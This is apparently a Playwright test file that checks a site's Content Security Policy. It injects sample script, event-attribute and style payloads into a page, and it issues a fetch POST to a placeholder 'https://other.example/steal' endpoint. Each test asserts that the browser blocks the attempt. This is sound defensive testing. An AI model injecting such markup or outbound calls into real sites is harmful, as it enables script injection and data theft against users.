import { expect, test } from '../support/fixtures.ts';

// Records the policy directive that the page violated last.
test.beforeEach(async ({ page, guard }) => {
	guard.allowLog(/Content Security Policy/, /Refused to connect|violates the document/, /TrustedHTML/);
	// The browser blocks the request, but the guard still sees it.
	guard.allowOrigin('https://other.example');
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
			document.documentElement.dataset['breach'] = effectiveDirective;
		});
	});
});

// In every test, the guard checks that no page violates its own policy.
for (const [what, markup, directive] of [
	['a script in the page', '<script>document.title = "taken over"</script>', 'script-src-elem'],
	['a script from another host', '<script src="https://other.example/take-over.js"></script>', 'script-src-elem'],
	['an event attribute', '<button onclick="document.title = \'taken over\'">Win</button>', 'script-src-attr'],
	['a style attribute', '<p style="position: fixed">Covers the page</p>', 'style-src-attr'],
] as const) {
	test(`The policy blocks injected markup: ${what}`, async ({ page }) => {
		await page.route('**/about', async (route) => {
			const answer = await route.fetch();
			await route.fulfill({ response: answer, body: (await answer.text()).replace('</main>', `${markup}</main>`) });
		});
		await page.goto('/about');
		if (markup.startsWith('<button')) await page.getByRole('button', { name: 'Win' }).click();
		await expect(page.locator('html')).toHaveAttribute('data-breach', directive);
		await expect(page).not.toHaveTitle('taken over');
	});
}

test('A script can neither write text as HTML nor call a host outside the policy', async ({ page }) => {
	await page.goto('/about');
	const written = page.evaluate(() => {
		document.body.innerHTML = '<p>taken over</p>';
	});
	await expect(written).rejects.toThrow('TypeError');
	await expect(page.locator('html')).toHaveAttribute('data-breach', 'require-trusted-types-for');
	const call = page.evaluate(() => fetch('https://other.example/steal', { method: 'POST', body: 'text' }));
	await expect(call).rejects.toThrow('TypeError');
	await expect(page.locator('html')).toHaveAttribute('data-breach', 'connect-src');
});
